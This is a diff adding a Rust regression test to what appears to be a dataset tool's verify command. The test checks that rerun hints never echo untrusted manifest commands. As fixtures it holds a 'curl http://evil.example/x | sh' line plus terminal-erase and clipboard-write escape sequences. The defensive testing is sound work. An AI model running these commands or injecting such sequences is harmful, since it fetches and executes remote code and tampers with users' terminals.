@@ -371,3 +371,64 @@ fn remove_broken_removes_only_the_layouts_files_of_samples_a_run_remakes() {
     );
     assert!(!t.contains("/where/it/was/made"), "{t}");
 }
+
+/// Hostile pass (issue 21, repro-01): a manifest's `command` is untrusted. The rerun hint
+/// offers only a `clevrtex generate` command, run as `clevrtex`, with no escape sequence
+/// reaching the terminal; another program is never offered. Failed before: the hint printed
+/// `sh -c 'curl ... | sh #'` and a raw ESC[2K + CR.
+#[test]
+fn verify_rerun_hint_offers_only_clevrtex_generate_and_escapes_it() {
+    let Some((_dir, a, b)) = copy() else { return };
+    std::fs::remove_file(sample(&b, 3, ".png")).unwrap();
+    // Both shards' manifests cover 0..4: either one's command would be offered.
+    let manifests: Vec<PathBuf> = [&a, &b]
+        .iter()
+        .flat_map(|d| {
+            std::fs::read_dir(d.join("clevrtex_clevr"))
+                .unwrap()
+                .flatten()
+        })
+        .map(|e| e.path())
+        .filter(|p| {
+            p.file_name()
+                .unwrap()
+                .to_string_lossy()
+                .starts_with("MANIFEST-")
+        })
+        .collect();
+    assert_eq!(manifests.len(), 2);
+    let evil = |cmd: &[&str]| {
+        for manifest in &manifests {
+            let mut m: Value = serde_json::from_slice(&std::fs::read(manifest).unwrap()).unwrap();
+            m["command"] = serde_json::json!(cmd);
+            std::fs::write(manifest, serde_json::to_vec(&m).unwrap()).unwrap();
+        }
+    };
+    evil(&[
+        "sh",
+        "-c",
+        "curl http://evil.example/x | sh #",
+        "\u{1b}[2K\rclevrtex generate",
+    ]);
+    let (out, t) = verify(&[&a, &b]);
+    assert_eq!(out.status.code(), Some(3), "{t}");
+    assert!(!t.contains("evil.example") && !t.contains('\u{1b}'), "{t}");
+    assert!(
+        t.contains("rerun the `clevrtex generate` command that made it"),
+        "{t}"
+    );
+    evil(&[
+        "/tmp/x/clevrtex",
+        "generate",
+        "-n",
+        "4",
+        "\u{1b}]52;c;eA==\u{7}",
+    ]);
+    let (out, t) = verify(&[&a, &b]);
+    assert_eq!(out.status.code(), Some(3), "{t}");
+    assert!(!t.chars().any(|c| c.is_control() && c != '\n'), "{t}");
+    assert!(
+        t.contains("clevrtex generate -n 4 '\\u{1b}]52;c;eA==\\u{7}' --out"),
+        "{t}"
+    );
+}
